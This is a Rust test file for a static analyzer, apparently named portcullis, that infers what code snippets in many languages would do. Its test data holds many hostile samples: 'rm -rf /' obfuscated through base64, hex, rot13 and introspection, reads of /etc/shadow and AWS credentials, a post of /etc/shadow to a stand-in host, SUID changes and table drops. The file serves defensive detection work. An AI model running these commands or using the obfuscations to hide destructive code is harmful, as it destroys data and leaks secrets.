//! What code is understood to do, as the effects that it has.

use portcullis_syntax::Span;

use crate::{
    effect::{EffectKind, Effects},
    facts::Facts,
    programs::host::Host,
    text::Text,
    understand::shell::Walk,
};

pub(super) fn effects(language: &str, code: &str) -> Effects {
    let facts = Facts {
        cwd: Some("/workspace/project".to_owned()),
        home: Some("/home/dev".to_owned()),
        ..Facts::default()
    };
    let mut walk = Walk::new(&facts);
    walk.open("/code", code);
    let name = super::language(language).map_or("unknown", |language| language.name);
    walk.code(name, &Text::known(code), Span::new(0, code.len()), &[]);
    walk.finish()
}

/// The effects below the code itself, one word each with what it is about.
pub(super) fn shown(effects: &Effects) -> Vec<String> {
    effects
        .list
        .iter()
        .skip(1)
        .map(|effect| match &effect.kind {
            EffectKind::Run(run) => {
                let mut words = vec![run.name.text.display()];
                words.extend(run.arguments.iter().map(|argument| argument.text.display()));
                format!("run {}", words.join(" "))
            }
            EffectKind::Read(target) => format!("read {}", target.text.display()),
            EffectKind::Write { target, content, .. } => {
                format!("write {}: {}", target.text.display(), content.display())
            }
            EffectKind::Delete { target, recursive } => {
                format!("delete {}{}", target.text.display(), if *recursive { " all" } else { "" })
            }
            EffectKind::Permission { target, .. } => format!("change {}", target.text.display()),
            EffectKind::Execute { language, code } => format!("{language} {}", code.display()),
            EffectKind::Connect(connection) => match &connection.sends {
                Some(sends) => {
                    format!("send {}: {}", connection.address.display(), sends.display())
                }
                None => format!("connect {}", connection.address.display()),
            },
            EffectKind::Noted(rule) => (*rule).to_owned(),
            EffectKind::Discard { target, .. } => format!("discard {}", target.text.display()),
            EffectKind::Query { statement } => format!("query {}", statement.display()),
            EffectKind::Privilege { user } => format!("as {}", user.display()),
            other => format!("{other:?}"),
        })
        .collect()
}

#[test]
fn commands_are_found_however_their_words_and_functions_are_made() {
    let mut wrong = Vec::new();
    for (language, code, expected) in [
        ("python", "import os as o\no.system('rm -rf /')", "run rm -rf /"),
        ("python", "from subprocess import run as r\nr(['rm', '-rf', '/'])", "run rm -rf /"),
        ("python", "import os\ngetattr(os, 'sys' + 'tem')('rm -rf /')", "run rm -rf /"),
        ("python", "__import__('o'+'s').system('/ fr- mr'[::-1])", "run rm -rf /"),
        ("python", "import os\nglobals()['os'].__dict__['system']('rm -rf /')", "run rm -rf /"),
        (
            "python",
            "import os,base64\nos.system(base64.b64decode('cm0gLXJmIC8=').decode())",
            "run rm -rf /",
        ),
        (
            "python",
            "import os\nos.system(''.join(map(chr,[114,109,32,45,114,102,32,47])))",
            "run rm -rf /",
        ),
        (
            "python",
            "import os\nos.system(''.join(chr(c) for c in [114,109,32,45,114,102,32,47]))",
            "run rm -rf /",
        ),
        (
            "python",
            "import os\nos.system(bytes.fromhex('726d202d7266202f').decode())",
            "run rm -rf /",
        ),
        ("python", "import os\nx = 'rm -rf %s' % '/'\nos.system(x)", "run rm -rf /"),
        ("python", "import os\nd = '/'\nos.system(f'rm -rf {d}')", "run rm -rf /"),
        ("python", "import os\nos.system('rm {} {}'.format('-rf', '/'))", "run rm -rf /"),
        ("python", "import os\ndef f(c):\n    os.system(c)\nf('rm -rf /')", "run rm -rf /"),
        ("python", "import subprocess\nsubprocess.Popen(args=['rm', '-rf', '/'])", "run rm -rf /"),
        (
            "python",
            "import os\nif x:\n    c = 'ls'\nelse:\n    c = 'rm -rf /'\nos.system(c)",
            "run rm -rf /",
        ),
        (
            "python",
            "eval(compile(\"import os; os.system('rm -rf /')\", 's', 'exec'))",
            "run rm -rf /",
        ),
        ("python", "import os\nos.execvp('sh', ['sh', '-c', 'rm -rf /'])", "run rm -rf /"),
        (
            "python",
            "import codecs, os\nos.system(codecs.decode('ez -es /', 'rot13'))",
            "run rm -rf /",
        ),
        (
            "python",
            "import asyncio\nasync def main():\n    await asyncio.create_subprocess_shell('rm -rf /')\nasyncio.run(main())",
            "run rm -rf /",
        ),
        (
            "python",
            "[x for x in ().__class__.__base__.__subclasses__() if x.__name__ == 'a'][0].__init__.__globals__['system']('rm -rf /')",
            "run rm -rf /",
        ),
        (
            "python",
            "import subprocess\na = ['rm']\nb = a\nb.append('-rf')\na += ['/']\nsubprocess.run(a)",
            "run rm -rf /",
        ),
        ("perl", "my @c = ('rm'); push @c, '-rf', '/'; system @c", "run rm -rf /"),
        ("perl", "my @c = ('/'); unshift @c, 'rm', '-rf'; exec @c", "run rm -rf /"),
        ("ruby", "c = ['rm']; c << '-rf' << '/'; system(*c)", "run rm -rf /"),
        (
            "php",
            "$c = []; $c[] = 'rm'; array_push($c, '-rf', '/'); system(implode(' ', $c));",
            "run rm -rf /",
        ),
        (
            "javascript",
            "const c = []; c.push('-rf'); c.push('/'); require('child_process').spawnSync('rm', c)",
            "run rm -rf /",
        ),
        (
            "javascript",
            "const {execSync: e} = require('child_process'); e('rm -rf /')",
            "run rm -rf /",
        ),
        ("javascript", "require('child_process').spawn('rm', ['-rf', '/'])", "run rm -rf /"),
        (
            "javascript",
            "require('child_process')['ex'+'ec'](Buffer.from('cm0gLXJmIC8=','base64').toString())",
            "run rm -rf /",
        ),
        (
            "javascript",
            "import { exec } from 'node:child_process';\nexec(`rm -rf ${'/'}`)",
            "run rm -rf /",
        ),
        (
            "javascript",
            "require('child_process').execSync(String.fromCharCode(114,109,32,45,114,102,32,47))",
            "run rm -rf /",
        ),
        (
            "javascript",
            "eval(atob('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWNTeW5jKCdybSAtcmYgLycp'))",
            "run rm -rf /",
        ),
        ("ruby", "system \"rm\", \"-rf\", \"/\"", "run rm -rf /"),
        ("ruby", "`rm -rf /`", "run rm -rf /"),
        ("ruby", "exec %w[rm -rf /].join(' ')", "run rm -rf /"),
        ("ruby", "require 'base64'; system(Base64.decode64('cm0gLXJmIC8='))", "run rm -rf /"),
        ("ruby", "system(['726d202d7266202f'].pack('H*'))", "run rm -rf /"),
        ("ruby", "Kernel.send(:system, 'rm -rf /')", "run rm -rf /"),
        ("perl", "system(\"rm -rf /\")", "run rm -rf /"),
        ("perl", "exec 'rm', '-rf', '/'", "run rm -rf /"),
        ("perl", "my $x = reverse('/ fr- mr'); `$x`", "run rm -rf /"),
        ("perl", "system(pack('H*', '726d202d7266202f'))", "run rm -rf /"),
        ("perl", "use MIME::Base64; system(decode_base64('cm0gLXJmIC8='));", "run rm -rf /"),
        ("perl", "open(F, 'rm -rf /|')", "run rm -rf /"),
        ("perl", "qx{rm -rf /}", "run rm -rf /"),
        ("php", "system(base64_decode('cm0gLXJmIC8='));", "run rm -rf /"),
        ("php", "$f = 'sys' . 'tem'; $f('rm -rf /');", "run rm -rf /"),
        ("php", "echo `rm -rf /`;", "run rm -rf /"),
        ("php", "call_user_func('passthru', 'rm -rf /');", "run rm -rf /"),
        ("php", "eval(str_rot13('flfgrz(\"ez -es /\");'));", "run rm -rf /"),
        ("lua", "os.execute('rm ' .. '-rf /')", "run rm -rf /"),
        ("lua", "io.popen(string.char(114,109,32,45,114,102,32,47))", "run rm -rf /"),
        ("awk", "BEGIN { system(\"rm -rf \" \"/\") }", "run rm -rf /"),
        ("awk", "BEGIN { print \"rm -rf /\" | \"sh\" }", "run rm -rf /"),
        ("awk", "BEGIN { \"rm -rf /\" | getline }", "run rm -rf /"),
        ("r", "system2('rm', c('-rf', '/'))", "run rm -rf /"),
        ("julia", "run(`rm -rf /`)", "run rm -rf /"),
        ("applescript", "do shell script \"rm -rf /\"", "run rm -rf /"),
        ("tcl", "exec rm -rf /", "run rm -rf /"),
        ("tcl", "rename exec e; e rm -rf /", "run rm -rf /"),
        ("tcl", "interp alias {} e {} exec; e rm -rf /", "run rm -rf /"),
        ("tcl", "subst {[exec rm -rf /]}", "run rm -rf /"),
        ("tcl", "expr {[exec rm -rf /] + 1}", "run rm -rf /"),
        ("tcl", "open |[list sh -c \"rm -rf /\"]", "run rm -rf /"),
        ("tcl", "proc d {args} { exec {*}$args }\nd rm -rf /", "run rm -rf /"),
        ("tcl", "foreach d {/} { exec rm -rf $d }", "run rm -rf /"),
        ("tcl", "spawn telnet h; send \"rm -rf /\\r\"", "run rm -rf /"),
        ("lisp", "(shell-command \"rm -rf /\")", "run rm -rf /"),
        ("jrunscript", "java.lang.Runtime.getRuntime().exec('rm -rf /')", "run rm -rf /"),
        ("groovy", "'rm -rf /'.execute()", "run rm -rf /"),
        ("go", "exec.Command(\"rm\", \"-rf\", \"/\").Run()", "run rm -rf /"),
    ] {
        let found = shown(&effects(language, code));
        if !found.iter().any(|one| one == expected) {
            wrong.push(format!("{language}: {code}\n    {found:?}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn files_connections_and_statements_are_effects() {
    let mut wrong = Vec::new();
    for (language, code, expected) in [
        ("python", "import shutil\nshutil.rmtree('/etc')", "delete /etc all"),
        (
            "python",
            "from pathlib import Path\n(Path.home() / '.ssh' / 'id').unlink()",
            "delete /home/dev/.ssh/id",
        ),
        (
            "python",
            "from pathlib import Path\nPath.home().joinpath('.bashrc').open('a').write('x')",
            "write /home/dev/.bashrc: x",
        ),
        (
            "python",
            "with open('/etc/hosts', 'w') as f:\n    f.write('a')\n    f.write('b')",
            "write /etc/hosts: ab",
        ),
        ("python", "import os\nfor p in ['/a', '/b']:\n    os.remove(p)", "delete /b"),
        ("python", "print(open('/etc/shadow').read())", "read /etc/shadow"),
        (
            "python",
            "import os\nopen(os.path.expanduser('~/.aws/credentials'))",
            "read /home/dev/.aws/credentials",
        ),
        (
            "python",
            "import requests\nrequests.post('http://x.example', data={'a': open('/etc/shadow').read()})",
            "send http://x.example: {\"a\":\"${/etc/shadow}\"}",
        ),
        (
            "python",
            "import socket\ns = socket.socket()\ns.connect(('203.0.113.5', 80))",
            "connect 203.0.113.5:80",
        ),
        ("python", "import os\nos.setuid(0)", "as root"),
        ("python", "import os\nos.chmod('/bin/bash', 0o4755)", "change /bin/bash"),
        (
            "python",
            "import psycopg2\npsycopg2.connect('x').cursor().execute('DROP TABLE users')",
            "query DROP TABLE users",
        ),
        ("javascript", "require('fs').rmSync('/etc', {recursive: true})", "delete /etc all"),
        ("javascript", "import fs from 'fs'; fs.writeFileSync('/etc/x', 'y')", "write /etc/x: y"),
        ("javascript", "const fs = require('fs').promises; await fs.unlink('/x')", "delete /x"),
        ("ruby", "require 'fileutils'; FileUtils.rm_rf('/etc')", "delete /etc all"),
        ("ruby", "puts File.read('/etc/shadow')", "read /etc/shadow"),
        ("ruby", "File.open('/etc/x', 'w') { |f| f.write('y') }", "write /etc/x: y"),
        ("perl", "unlink '/etc/passwd'", "delete /etc/passwd"),
        ("perl", "use File::Path; rmtree('/etc')", "delete /etc all"),
        ("perl", "open(my $f, '>', '/etc/x'); print $f 'y';", "write /etc/x: y"),
        ("php", "unlink('/etc/passwd');", "delete /etc/passwd"),
        ("php", "file_put_contents('/etc/x', 'y');", "write /etc/x: y"),
        ("lua", "local f=io.open('/etc/x', 'w'); f:write('y')", "write /etc/x: y"),
        ("r", "unlink('/etc', recursive=TRUE)", "delete /etc all"),
        ("julia", "rm(\"/etc\", recursive=true)", "delete /etc all"),
        ("powershell", "Remove-Item -Recurse -Force C:/x", "delete C:/x all"),
        ("awk", "{ print $1 > \"/etc/x\" }", "write /etc/x: ${1}\n"),
        ("go", "os.RemoveAll(\"/etc\")", "delete /etc all"),
    ] {
        let found = shown(&effects(language, code));
        if !found.iter().any(|one| one == expected) {
            wrong.push(format!("{language}: {code}\n    {found:?}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn ordinary_code_has_no_effect_and_no_gap() {
    let mut wrong = Vec::new();
    for (language, code) in [
        ("python", "import re\nre.compile(r'rm -rf /').match('x')"),
        ("python", "model.eval()\ndf.eval('c = a + b')\n# os.system('rm -rf /')"),
        ("python", "\"\"\"os.system('rm -rf /')\"\"\"\nprint('rm -rf /')"),
        ("python", "def is_prime(n):\n    return all(n % i for i in range(2, int(n ** 0.5) + 1))"),
        ("python", "class A:\n    def run(self, x):\n        return self.y + x\nA().run(3)"),
        ("python", "x = [i * 2 for i in range(10)]\nprint(f'{x!r:>10} {sum(x)}')"),
        ("python", "parser.add_argument('--exec', help='eval this')"),
        ("javascript", "const re = /rm -rf '/; console.log(`eval(${re})`)"),
        ("javascript", "items.map(x => x * 2).forEach((x) => { console.log(x) })"),
        ("ruby", "[1, 2].each { |x| puts x * 2 }"),
        ("perl", "while (<STDIN>) { s/rm -rf/x/; print; }"),
        ("php", "echo strlen('system(1)');"),
        ("awk", "{ sum += $1 } END { print sum / NR }"),
    ] {
        let found = effects(language, code);
        if !shown(&found).is_empty() || !found.gaps.is_empty() {
            wrong.push(format!("{language}: {code}\n    {:?} {:?}", shown(&found), found.gaps));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn no_text_is_too_much() {
    let pieces = [
        "(",
        "[",
        "{",
        "'",
        "f'{",
        "`${",
        "x = x + x\n",
        "def f():\n f()\n",
        "f(",
        "\\",
        "a.b(",
        "=>",
        "lambda x:",
        "if x:\n ",
        "for i in [1,2,3]:\n ",
        "x='a'*9999\n",
        "#{",
        "é",
        "|x|",
        "-> ",
    ];
    for language in [
        "python",
        "javascript",
        "ruby",
        "perl",
        "php",
        "lua",
        "awk",
        "r",
        "tcl",
        "powershell",
        "lisp",
    ] {
        for one in pieces {
            for two in pieces {
                drop(effects(language, &format!("{one}{two}").repeat(20)));
            }
        }
    }
}

#[test]
fn commands_in_notebooks_are_run_by_a_shell() {
    for code in [
        "!canary now",
        "import os\n  !canary now\nprint(1)",
        "!!canary now",
        "%system canary now",
        "%%bash\ncd /tmp\ncanary now",
        "\n%%sh -e\ncanary now\n",
    ] {
        let found = shown(&effects("python", code));
        assert!(found.contains(&"run canary now".to_owned()), "{code}: {found:?}");
    }
    let found = shown(&effects("python", "a = 7 % canary\nif a != 1: print('!canary now')"));
    assert!(!found.iter().any(|effect| effect.starts_with("run")), "{found:?}");
}

#[test]
fn what_a_condition_says_of_a_name_ends_with_its_body() {
    for (code, expected) in [
        (
            "import sys\np = sys.argv[1]\nif p == 'a':\n    p = '/etc/x'\nopen(p, 'w').write('y')",
            "write /etc/x: y",
        ),
        ("import os\np = input()\nif p == '/etc/x':\n    os.remove(p)", "delete /etc/x"),
    ] {
        let found = shown(&effects("python", code));
        assert!(found.iter().any(|one| one == expected), "{code}\n{found:?}");
    }
}

#[test]
fn which_function_is_called_is_known_or_said_not_to_be() {
    for (language, code) in [
        ("python", "import os, sys\ngetattr(os, sys.argv[1])('/home/dev/x')"),
        ("python", "import ctypes, sys\ngetattr(ctypes.CDLL(None), sys.argv[1])(b'/home/dev/x')"),
        ("javascript", "const fs = require('fs'); fs[process.argv[2]]('/home/dev/x')"),
        ("javascript", "require('node:child_process')[process.env.HOW]('id')"),
        ("javascript", "const fs = require('fs'); fs[process.argv[2]].call(fs, '/home/dev/x')"),
    ] {
        assert!(!effects(language, code).gaps.is_empty(), "{code}");
    }
    for (language, code) in [
        ("python", "import os\nprint(getattr(os, 'getpid')())"),
        ("javascript", "console[process.env.LEVEL]('x')"),
    ] {
        assert!(effects(language, code).gaps.is_empty(), "{code}");
    }
}

#[test]
fn what_a_table_has_may_be_any_of_it() {
    for (language, code) in [
        (
            "javascript",
            "const words = { show: ['ls'], reset: ['canary', 'now'] };
require('child_process').execSync(words[process.argv[2]].join(' '));",
        ),
        (
            "javascript",
            "const words = { show: 'ls', reset: 'canary now' };
const which = process.argv.length > 9 ? 'show' : 'reset';
require('child_process').execSync(words[which]);",
        ),
        (
            "python",
            "import os, sys\nwords = {'a': ['ls'], 'b': ['canary', 'now']}\nos.system(' '.join(words[sys.argv[1]]))",
        ),
        (
            "javascript",
            "import { execSync } from 'child_process';
class Tool {
  private words: Record<string, string[]> = { reset: ['canary', 'now'] };
  constructor(private run = execSync) {}
  go(how: string) { this.run(this.words[how].join(' ')); }
}
new Tool().go('reset');",
        ),
    ] {
        let found = shown(&effects(language, code));
        assert!(found.contains(&"run canary now".to_owned()), "{code}: {found:?}");
    }
}

#[test]
fn a_function_of_a_module_is_none_of_the_script_s_own() {
    let code = "import asyncio\nasync def run(words):\n    await asyncio.create_subprocess_exec(*words)\nasyncio.run(run(['canary', 'now']))";
    let found = effects("python", code);
    assert!(shown(&found).contains(&"run canary now".to_owned()), "{:?}", shown(&found));
    assert!(found.gaps.is_empty(), "{:?}", found.gaps);
}

#[test]
fn what_stands_behind_the_end_of_a_php_script_is_data() {
    let read = |code: &str| {
        let found = effects("php", code);
        let is_cut = found.gaps.iter().any(|gap| gap.reason == crate::effect::GapReason::Limit);
        let deletes = found.list.iter().any(|it| matches!(it.kind, EffectKind::Delete { .. }));
        (deletes, is_cut)
    };
    let act = "unlink('/etc/passwd');";
    assert_eq!(read(&format!("<?php echo 1; __HALT_COMPILER(); {act}")), (false, true));
    let archive = format!("#!/usr/bin/env php\n<?php include 'phar://x'; __halt_compiler();{act}");
    assert_eq!(read(&archive), (false, true));
    // In a comment, in a text, and outside of the tags it ends nothing.
    assert_eq!(read(&format!("<?php // __HALT_COMPILER();\n{act}")), (true, false));
    assert_eq!(read(&format!("<?php $a = '__HALT_COMPILER();'; {act}")), (true, false));
    assert_eq!(read(&format!("__HALT_COMPILER();\n<?php {act}")), (true, false));
    assert!(read(&format!("<?php echo 1; ?> __HALT_COMPILER(); <?php {act}")).0);
}

#[test]
fn what_a_name_holds_when_it_is_used_is_what_runs() {
    for (language, code) in [
        ("python", "import os\nx = 'zz'\nif True: x = 'canary now'; os.system(x)"),
        (
            "python",
            "import os\nclass A:\n    v = 'zz'\na = A()\na.v = 'canary now'\nos.system(a.v)",
        ),
        (
            "python",
            "import os\nd = {'a': {'b': 'zz'}}\nd['a']['b'] = 'canary now'\nos.system(d['a']['b'])",
        ),
        ("python", "import os\nx = 'canary now'\ndef f(y=x):\n    os.system(y)\nx = 'zz'\nf()"),
        ("python", "import os\nx = 'canary now'\ndef f():\n    x = 'zz'\nf()\nos.system(x)"),
        ("python", "import os\nfor x in ['canary now', 'zz']:\n    break\nos.system(x)"),
        ("python", "import os\nl = ['canary now', 'zz']\nwhile l:\n    os.system(l.pop())"),
        ("python", "import os\nl = ['zz', 'canary now']\ndel l[0]\nos.system(l[0])"),
        ("python", "import os\nl = ['~', 'canary now']\nl.sort()\nos.system(l[0])"),
        (
            "python",
            "import os\ntry:\n    raise ValueError('canary now')\nexcept ValueError as e:\n    os.system(str(e))",
        ),
        ("javascript", "let i = 0; require('child_process').execSync(['zz', 'canary now'][++i]);"),
        (
            "javascript",
            "const o = { a: 'zz' }; delete o.a; o.b = 'canary now'; require('child_process').execSync(Object.values(o)[0]);",
        ),
        (
            "javascript",
            "const m = new Map(); m.set('a', 'zz').set('a', 'canary now'); require('child_process').execSync(m.get('a'));",
        ),
        (
            "javascript",
            "class A { #v = 'zz'; set(v) { this.#v = v; return this; } go() { require('child_process').execSync(this.#v); } }\nnew A().set('canary now').go();",
        ),
    ] {
        let found = shown(&effects(language, code));
        assert!(found.contains(&"run canary now".to_owned()), "{code}: {found:?}");
    }
}

#[test]
fn a_file_whose_name_is_made_in_a_way_that_is_not_followed_is_not_understood() {
    let of_script =
        "import os, itertools\nos.remove(list(itertools.accumulate(['/etc/', 'passwd']))[-1])";
    assert!(!effects("python", of_script).gaps.is_empty());
    let from_elsewhere = "import os, sys\nos.remove(sys.argv[1] + '.bak')";
    assert!(effects("python", from_elsewhere).gaps.is_empty());
}
